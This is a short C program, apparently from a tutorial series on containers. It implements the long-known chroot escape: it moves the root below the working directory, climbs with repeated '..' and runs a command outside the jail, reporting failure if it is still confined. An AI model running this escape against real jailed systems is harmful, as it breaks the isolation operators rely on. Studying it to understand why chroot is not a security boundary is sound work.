/*
 * The way out of a chroot, known for decades.
 *
 * The kernel stops ".." at the root directory of the process, and only
 * there.  So a process that may call chroot(2) moves its root *below* its
 * working directory: now it is outside of its own root, no ".." stops it any
 * more, and it walks up to the real root.
 *
 *     sudo bin/04-chroot --rootfs build/rootfs --jail chroot \
 *             --mount bin:/mnt /mnt/escape ls /
 *
 * Runs COMMAND in the directory it reached; exit status 1 if it is still
 * the container's root.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEEPER_THAN_ANY_PATH 1024

static int same_directory(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char **argv)
{
	struct stat before, after;

	if (argc < 2) {
		fprintf(stderr, "Usage: escape COMMAND [ARGUMENT]...\n");
		return 2;
	}
	if (stat("/", &before) < 0 ||
	    (mkdir("/tmp/below", 0700) < 0 && access("/tmp/below", F_OK) < 0)) {
		perror("escape: make a directory to move the root to");
		return 1;
	}
	/*
	 * The root is now below the working directory, which stays where it
	 * was.
	 */
	if (chroot("/tmp/below") < 0) {
		perror("escape: chroot");
		return 1;
	}
	/*
	 * ".." of the topmost directory is itself: too many steps do no harm.
	 */
	for (int i = 0; i < DEEPER_THAN_ANY_PATH; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0 || stat("/", &after) < 0) {
		perror("escape: chroot to where the way up ended");
		return 1;
	}
	rmdir("/tmp/below");
	if (same_directory(&before, &after)) {
		fprintf(stderr, "escape: still inside: .. ends at the "
				"container's root\n");
		return 1;
	}
	execvp(argv[1], argv + 1);
	perror("escape: run the command");
	return 127;
}
